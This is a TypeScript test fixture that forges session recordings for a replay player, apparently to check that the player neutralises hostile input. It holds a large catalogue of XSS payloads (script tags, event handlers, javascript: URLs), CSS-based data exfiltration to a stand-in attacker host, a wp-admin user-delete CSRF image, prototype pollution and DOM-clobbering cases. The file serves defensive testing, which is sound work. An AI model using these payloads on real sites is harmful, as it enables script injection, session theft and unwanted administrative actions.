/** Recordings that nobody's browser has made: what a stranger could send to the door. */
import { ATTACKER_PORT, SITE_PORT } from './ports';
import type { RawEvent } from './recordings';

export const ATTACKER = `http://127.0.0.1:${ ATTACKER_PORT }`;
const RUN = `console.log('EXECUTED');top.executed.push(1)`;
const T = 1_700_000_000_000;

type Node = Record< string, unknown >;
let nextId = 1;
export const text = ( value: string ): Node => ( { type: 3, id: nextId++, textContent: value } );
export const element = ( tagName: string, attributes: Node = {}, ...childNodes: Node[] ): Node => ( { type: 2, id: nextId++, tagName, attributes, childNodes } );
const svg = ( tagName: string, attributes: Node = {}, ...childNodes: Node[] ): Node => ( { ...element( tagName, attributes, ...childNodes ), isSVG: true } );

/** Meta and snapshot with `nodes` in the body, `then` as further events, and an end that can be seen. */
export function forged( nodes: Node[], then: unknown[] = [], head: Node[] = [], href = `http://127.0.0.1:${ SITE_PORT }/pages/home.html` ): unknown[] {
	const end = element( 'p', { id: 'end' }, { type: 3, id: 900_001, textContent: 'begun' } );
	const body = { ...element( 'body', {}, ...nodes, end ), id: 900_000 };
	const root = { type: 0, id: 900_003, childNodes: [ { type: 1, id: 900_004, name: 'html', publicId: '', systemId: '' }, element( 'html', {}, element( 'head', {}, ...head ), body ) ] };
	return [
		{ type: 4, timestamp: T, data: { href, width: 800, height: 600 } },
		{ type: 2, timestamp: T + 1, data: { node: root, initialOffset: { top: 0, left: 0 } } },
		...then.map( ( event, index ) => ( typeof event === 'object' && event !== null ? { timestamp: T + 100 + index, type: 3, ...event } : event ) ),
		{ type: 3, timestamp: T + 900, data: { source: 0, texts: [ { id: 900_001, value: 'reached the end' } ], attributes: [], removes: [], adds: [] } },
	];
}

const mutation = ( part: Node ): Node => ( { data: { source: 0, texts: [], attributes: [], removes: [], adds: [], ...part } } );
const add = ( node: Node, more: Node = {} ): Node => mutation( { adds: [ { parentId: 900_000, nextId: null, node, ...more } ] } );
const url = ( name: string ): string => `${ ATTACKER }/${ name }`;
const admin = `http://127.0.0.1:${ SITE_PORT }/wp-admin/users.php?action=delete`;

/** What an attack is built from; each is one recording. */
export const ATTACKS: Record< string, () => unknown[] > = {
	'a script element': () => forged( [ element( 'script', {}, text( RUN ) ) ] ),
	'a script element in capitals': () => forged( [ element( 'SCRIPT', {}, text( RUN ) ), element( 'SCRIPT', { src: url( 'x.js' ) } ) ] ),
	'a script inside SVG': () => forged( [ svg( 'svg', {}, svg( 'script', {}, text( RUN ) ), svg( 'SCRIPT', { href: url( 'x.js' ) } ) ) ] ),
	'a picture with an error handler': () => forged( [ element( 'img', { src: 'x:', onerror: RUN } ), element( 'img', { src: 'x:', ONERROR: RUN } ) ] ),
	'handlers on the body': () => forged( [], [ mutation( { attributes: [ { id: 900_000, attributes: { onresize: RUN, onfocus: RUN, onmessage: RUN, onpageshow: RUN } } ] } ), { data: { source: 4, width: 700, height: 500 } } ] ),
	'an opening details element with a handler': () => forged( [ element( 'details', { open: '', ontoggle: RUN }, text( 'x' ) ) ] ),
	'a field that focuses itself': () => forged( [ element( 'input', { autofocus: '', onfocus: RUN } ) ] ),
	'media with error handlers': () => forged( [ element( 'video', { onerror: RUN }, element( 'source', { onerror: RUN, src: url( 'v.mp4' ) } ) ), element( 'audio', { src: url( 'a.mp3' ), onerror: RUN, autoplay: '' } ) ] ),
	'an animation with a handler': () => forged( [ element( 'style', { _cssText: '@keyframes k{from{top:0}}#a{animation:k 1s}' } ), element( 'p', { id: 'a', onanimationstart: RUN } ) ] ),
	'frames with a script address': () => forged( [ element( 'iframe', { src: `javascript:${ RUN }` } ), element( 'iframe', { srcdoc: `<script>${ RUN }</script>` } ), element( 'iframe', { src: `data:text/html,<script>${ RUN }</script>` } ) ] ),
	'frames with other tokens': () => forged( [ element( 'iframe', { srcdoc: `<script>${ RUN }</script>`, sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups', allow: '*' } ) ] ),
	'objects and embeds': () => forged( [ element( 'object', { data: url( 'o' ) } ), element( 'embed', { src: url( 'e' ) } ), element( 'object', { data: `data:text/html,<script>${ RUN }</script>` } ), element( 'portal', { src: url( 'p' ) } ), element( 'fencedframe', { src: url( 'f' ) } ) ] ),
	'HTML inside SVG': () => forged( [ svg( 'svg', {}, svg( 'foreignObject', {}, element( 'img', { src: 'x:', onerror: RUN } ), element( 'iframe', { src: url( 'i' ) } ) ) ) ] ),
	'a shadow tree with handlers': () => forged( [ { ...element( 'div', {}, { ...element( 'img', { src: 'x:', onerror: RUN } ), isShadow: true } ), isShadowHost: true } ] ),
	'a custom element': () => forged( [ { ...element( 'x-gadget', { 'data-html': `<img src=x onerror=${ RUN }>`, is: 'x-gadget', onclick: RUN } ), isCustom: true } ] ),
	'a recorded frame document with a script': () => {
		const frame = element( 'iframe', {} );
		return forged( [ frame ], [ { data: { source: 0, isAttachIframe: true, texts: [], attributes: [], removes: [], adds: [ { parentId: frame.id, nextId: null, node: { type: 0, id: 910_000, childNodes: [ { ...element( 'html', {}, element( 'body', { onload: RUN }, element( 'SCRIPT', {}, text( RUN ) ), element( 'img', { src: url( 'frame.png' ), onerror: RUN } ) ) ) } ] } } ] } } ] );
	},
	'a picture added later': () => forged( [], [ add( element( 'img', { src: 'x:', onerror: RUN } ) ), add( element( 'img', { src: url( 'later.png' ) } ) ) ] ),
	'attributes changed later': () => {
		const image = element( 'img', {} );
		const frame = element( 'iframe', {} );
		const link = element( 'a', {}, text( 'go' ) );
		return forged( [ image, frame, link ], [ mutation( { attributes: [ { id: image.id, attributes: { src: url( 'changed.png' ), onerror: RUN, srcset: `${ url( 's.png' ) } 1x` } }, { id: frame.id, attributes: { src: url( 'frame' ), srcdoc: `<script>${ RUN }</script>` } }, { id: link.id, attributes: { href: `javascript:${ RUN }`, target: '_top' } } ] } ), { data: { source: 2, type: 2, id: link.id, x: 1, y: 1 } } ] );
	},
	'a picture of somebody else': () => forged( [ element( 'img', { src: url( 'a.png' ) } ), element( 'img', { rr_dataURL: url( 'b.png' ) } ), element( 'img', { src: `//127.0.0.1:${ ATTACKER_PORT }/c.png` } ) ] ),
	'a picture that does something in wp-admin': () => forged( [ element( 'img', { src: admin } ), element( 'img', { src: '/wp-content/../wp-admin/users.php/x.png' } ), element( 'img', { src: '/wp-content/plugins/x/run.php/x.png' } ), element( 'img', { src: '/wp-content/%2e%2e/wp-login.png' } ) ] ),
	'picture sets': () => forged( [ element( 'img', { srcset: `${ url( 'a' ) } 1x, ${ url( 'b' ) } 2x` } ), element( 'picture', {}, element( 'source', { srcset: url( 'c' ) } ), element( 'img', {} ) ) ] ),
	'addresses in a style attribute': () => forged( [ element( 'p', { style: `background:url(${ url( 'a' ) });background:u\\72l("${ url( 'b' ) }");list-style:image-set("${ url( 'c' ) }" 1x)` }, text( 'x' ) ) ] ),
	'addresses in a style sheet': () => forged( [ element( 'style', { _cssText: `@import "${ url( 'i' ) }";@import url(${ url( 'j' ) });@font-face{font-family:f;src:url(${ url( 'f' ) })}body{font-family:f;cursor:url(${ url( 'c' ) }),auto;content:url(${ url( 'd' ) });mask:url(${ url( 'm' ) });border-image:url(${ url( 'b' ) }) 1}` } ) ] ),
	'an import hidden by escapes and comments': () => forged( [ element( 'style', { _cssText: `@\\69mport "${ url( 'i' ) }";@im/**/port url(${ url( 'j' ) });body{background:ur/**/l(${ url( 'k' ) });background:\\75 rl(${ url( 'l' ) })}` } ), element( 'style', {}, text( `@IMPORT '${ url( 'm' ) }'` ) ) ] ),
	'links to files': () => forged( [], [], [ element( 'link', { rel: 'stylesheet', href: url( 's.css' ) } ), element( 'LINK', { rel: 'preload', as: 'image', href: url( 'p' ) } ), element( 'link', { rel: 'modulepreload', href: url( 'm' ) } ), element( 'link', { rel: 'prefetch', href: url( 'f' ) } ), element( 'link', { rel: 'dns-prefetch', href: url( '' ) } ), element( 'link', { rel: 'preconnect', href: url( '' ) } ), element( 'link', { rel: 'manifest', href: url( 'w' ) } ), element( 'link', { rel: 'icon', href: url( 'i' ) } ) ] ),
	'a sheet that came with its link': () => forged( [], [], [ element( 'link', { rel: 'stylesheet', href: url( 's' ), _cssText: `@import url(${ url( 'i' ) });p{background:url(${ url( 'b' ) })}` } ) ] ),
	'another base': () => forged( [ element( 'img', { src: 'x.png' } ) ], [], [ element( 'base', { href: ATTACKER } ) ], `${ ATTACKER }/` ),
	'a refresh': () => forged( [], [], [ element( 'meta', { 'http-equiv': 'refresh', content: `0;url=${ ATTACKER }` } ), element( 'meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' } ) ] ),
	'speculation rules': () => forged( [], [], [ element( 'script', { type: 'speculationrules' }, text( `{"prerender":[{"urls":["${ ATTACKER }"]}]}` ) ) ] ),
	'old backgrounds and image buttons': () => forged( [ element( 'table', { background: url( 't' ) } ), element( 'input', { type: 'image', src: url( 'i' ) } ) ], [ mutation( { attributes: [ { id: 900_000, attributes: { background: url( 'b' ) } } ] } ) ] ),
	'SVG that points elsewhere': () => forged( [ svg( 'svg', {}, svg( 'image', { href: url( 'a' ), 'xlink:href': url( 'b' ) } ), svg( 'use', { href: url( 'c#x' ) } ), svg( 'feImage', { href: url( 'd' ) } ), svg( 'rect', { fill: `url(${ url( 'e' ) }#x)`, filter: `url(${ url( 'f' ) }#x)` } ), svg( 'a', { href: `javascript:${ RUN }` }, svg( 'set', { attributeName: 'href', to: `javascript:${ RUN }` } ) ) ) ] ),
	'a vector picture inside the recording': () => forged( [ element( 'img', { src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><script>${ RUN }</script><image href="${ url( 'v' ) }"/></svg>` } ) ] ),
	'a canvas with a picture address': () => forged( [ element( 'canvas', { rr_dataURL: url( 'c' ) } ), element( 'canvas', { rr_dataURL: admin } ) ], [ add( element( 'canvas', { rr_dataURL: url( 'd' ) } ) ) ] ),
	'canvas commands': () => {
		const canvas = element( 'canvas', {} );
		return forged( [ canvas ], [ { data: { source: 9, id: canvas.id, type: 0, commands: [ { property: 'drawImage', args: [ { rr_type: 'HTMLImageElement', src: url( 'x' ) }, 0, 0 ] } ] } }, { data: { source: 9, id: canvas.id, type: 0, property: 'fillStyle', setter: true, args: [ { rr_type: 'Image', src: url( 'y' ) } ] } } ] );
	},
	'a font loaded by script': () => forged( [], [ { data: { source: 10, family: 'x', fontSource: `url(${ url( 'f' ) })`, buffer: false } } ] ),
	'rules put in by script': () => {
		const style = element( 'style', { _cssText: 'p{color:red}' } );
		return forged( [ style ], [ { data: { source: 8, id: style.id, adds: [ { rule: `@import url(${ url( 'a' ) })`, index: 0 }, { rule: `p{background:url(${ url( 'b' ) })}`, index: 0 } ] } }, { data: { source: 8, id: style.id, replaceSync: `p{background:url(${ url( 'c' ) })}` } }, { data: { source: 13, id: style.id, index: [ 0 ], set: { property: 'background', value: `url(${ url( 'd' ) })`, priority: '' } } } ] );
	},
	'adopted sheets': () => forged( [], [ { data: { source: 15, id: 900_003, styleIds: [ 1 ], styles: [ { styleId: 1, rules: [ { rule: `body{background:url(${ url( 'a' ) })}` } ] } ] } } ] ),
	'media told to play': () => {
		const audio = element( 'audio', { src: url( 'a.mp3' ), rr_mediaState: 'played' } );
		return forged( [ audio ], [ { data: { source: 7, id: audio.id, type: 0, currentTime: 1 } } ] );
	},
	'a dialog over everything': () => forged( [ element( 'dialog', { open: '', rr_open_mode: 'modal', onclose: RUN }, element( 'style', {}, text( `::backdrop{background:url(${ url( 'b' ) })}` ) ) ) ] ),
	'forms and clicks': () => {
		const button = element( 'button', { type: 'submit', formaction: url( 'x' ) }, text( 'go' ) );
		return forged( [ element( 'form', { action: url( 'form' ), method: 'post', target: '_blank' }, button ) ], [ { data: { source: 2, type: 2, id: button.id, x: 5, y: 5 } }, { data: { source: 2, type: '2', id: button.id } }, { data: { source: 2, type: 'click', id: button.id } }, { data: { source: 2, type: 4, id: button.id, x: 5, y: 5 } } ] );
	},
	'reading a value by style': () => {
		const field = element( 'input', { value: 'secret' } );
		return forged( [ element( 'style', { _cssText: `input[value^="s"]{background:url(${ url( 's' ) })}` } ), field ], [ { data: { source: 5, id: field.id, text: 'secret', isChecked: false } } ] );
	},
	'keys that reach a prototype': () => [ ...forged( [] ).slice( 0, 2 ), `{"type":3,"timestamp":${ T + 50 },"__proto__":{"polluted":1},"data":{"source":3,"id":900000,"x":1,"y":1,"constructor":{"prototype":{"polluted":1}}}}`, ...forged( [] ).slice( 2 ) ],
	'words of the player itself': () => forged( [ element( 'img', { 'data-candid-asset': '1', src: 'x:' } ), element( 'candid-none', { style: 'display:block' }, text( 'x' ) ), element( 'p', { style: `--candid-asset-1:url(${ url( 'v' ) });background:var(--candid-asset-1)` }, text( 'y' ) ) ] ),
	'a style sheet in pieces': () => forged( [ element( 'style', {}, text( 'body{background:u' ), text( `rl(${ url( 'a' ) })}` ) ), element( 'style', { _cssText: `body{background:ur/* rr_split */l(${ url( 'b' ) })}` }, text( '' ), text( '' ) ), element( 'style', { _cssText: `body{color:ur/* rr_split */l(${ url( 'c' ) })}` } ) ] ),
	'a style sheet whose pieces change': () => {
		const [ one, two ] = [ text( 'body{' ), text( '}' ) ];
		return forged( [ element( 'style', {}, one, two ) ], [ mutation( { texts: [ { id: one.id, value: 'body{background:u' }, { id: two.id, value: `rl(${ url( 'a' ) })}` } ] } ) ] );
	},
	'a style sheet with odd selectors': () => forged( [ element( 'style', { _cssText: `body,:is(\\/*){*/;background:\\75/**/ rl(${ url( 'a' ) });} ) :hover{}` } ) ] ),
	'custom and plugin events': () => forged( [], [ { type: 5, data: { tag: `<img src=${ url( 't' ) }>`, payload: {} } }, { type: 6, data: { plugin: 'rrweb/console@1', payload: { payload: [ RUN ] } } }, { type: 8, data: { type: 'caption', text: '<b>' } } ] ),
};

const ID_LIKE: unknown[] = [ -1, 0, 1.5, '900000', null, Number.MAX_SAFE_INTEGER, {}, [] ];

/** What no recorder sends; each must be passed over, and the end be reached. */
export const DAMAGED: Record< string, () => unknown[] > = {
	'text that is not JSON': () => [ ...forged( [] ).slice( 0, 2 ), '{"type":3,', 'null', '[]', '""', '7', ...forged( [] ).slice( 2 ) ],
	'events without data': () => forged( [], [ { data: null }, { data: undefined }, { data: 'x' }, { type: 99, data: {} }, { type: 'constructor', data: {} } ] ),
	'names no element can have': () => forged( [ element( '__proto__' ), element( 'constructor' ), element( 'a b' ), element( '<p>' ), element( '' ), { ...element( 'x-' ), isCustom: true }, { ...element( 'font-face' ), isCustom: true }, { ...element( 'X-Y' ), isCustom: true } ] ),
	'nodes of unknown kinds': () => forged( [ { type: 4, id: 5001, textContent: 'cdata' }, { type: 7, id: 5002 }, { type: 1, id: 5003, name: 'a b' }, { type: 0, id: 5004, childNodes: [] }, { type: 2, id: 5005, tagName: 'p', attributes: null, childNodes: null } ] ),
	'shadow trees where none can be': () => forged( [ { ...element( 'img', {}, { ...element( 'b' ), isShadow: true } ), isShadowHost: true } ], [ add( { ...element( 'b' ), isShadow: true } ) ] ),
	'positions that are none': () => forged( [], [ { data: { source: 1, positions: [] } }, { data: { source: 1, positions: null } }, { data: { source: 1, positions: [ null, { x: 'a', y: 1, id: 900_000, timeOffset: 0 }, { x: 1, y: 1, id: 900_000, timeOffset: -1e300 } ] } } ] ),
	'times that are none': () => forged( [], [ { timestamp: 'x', data: { source: 3, id: 900_000, x: 0, y: 0 } }, { timestamp: -5, data: { source: 3, id: 900_000, x: 0, y: 0 } }, { timestamp: 1e300, data: { source: 3, id: 900_000, x: 0, y: 0 } } ] ),
	'a node inside itself': () => forged( [], [ mutation( { adds: [ { parentId: 7001, nextId: null, node: { type: 2, id: 7001, tagName: 'p', attributes: {}, childNodes: [] } } ] } ), mutation( { removes: [ { id: 900_003, parentId: 0 } ] } ), mutation( { adds: [ { parentId: 900_001, nextId: null, node: element( 'p' ) } ] } ) ] ),
	'references to nothing': () => forged( [], [ mutation( { removes: [ { id: 1e6, parentId: 5 } ], texts: [ { id: 1e6, value: 'x' } ], attributes: [ { id: 1e6, attributes: { a: 'b' } } ] } ), { data: { source: 3, id: 1e6, x: 1, y: 1 } }, { data: { source: 5, id: 1e6, text: 'x', isChecked: false } }, { data: { source: 2, type: 2, id: 1e6 } }, { data: { source: 14, ranges: [ { start: 1e6, startOffset: 0, end: 1e6, endOffset: 1 } ] } } ] ),
	'interactions of unknown types': () => forged( [], [ 11, -1, 99, '2', null, 1.5 ].map( ( type ) => ( { data: { source: 2, type, id: 900_000, x: 1, y: 1 } } ) ) ),
	'a window of any size': () => forged( [], [ { data: { source: 4, width: 1e8, height: 1e8 } }, { data: { source: 4, width: -5, height: 'x' } }, { data: { source: 4, width: 800, height: 600 } } ] ),
	...Object.fromEntries( ID_LIKE.map( ( id ) => [ `an id like ${ JSON.stringify( id ) }`, () => forged( [ { type: 2, id, tagName: 'p', attributes: {}, childNodes: [] } ], [ mutation( { adds: [ { parentId: 900_000, nextId: id, node: element( 'p' ) }, { parentId: id, nextId: null, node: element( 'p' ) } ] } ) ] ) ] ) ),
};

/** Fields that could be taken for properties of what they are in; the end must be reached all the same. */
const inForm = ( name: string ): unknown[] => {
	const field = element( 'input', { name, id: name } );
	return forged( [ element( 'form', { name }, field, element( 'img', { name, id: name } ) ) ], [ { data: { source: 1, positions: [ { x: 5, y: 5, id: field.id, timeOffset: 0 } ] } }, { data: { source: 2, type: 2, id: field.id, x: 1, y: 1 } } ] );
};
/** For the decoder: the stage alone does not judge names. */
export const SHADOWING: typeof ATTACKS = Object.fromEntries( [ 'parentElement', 'getAttribute', 'createElement', 'getElementsByTagName', 'dispatchEvent' ].map( ( name ) => [ `a form with fields of the name ${ name }`, () => inForm( name ) ] ) );

export const asEvents = ( events: unknown[] ): RawEvent[] => events as RawEvent[];
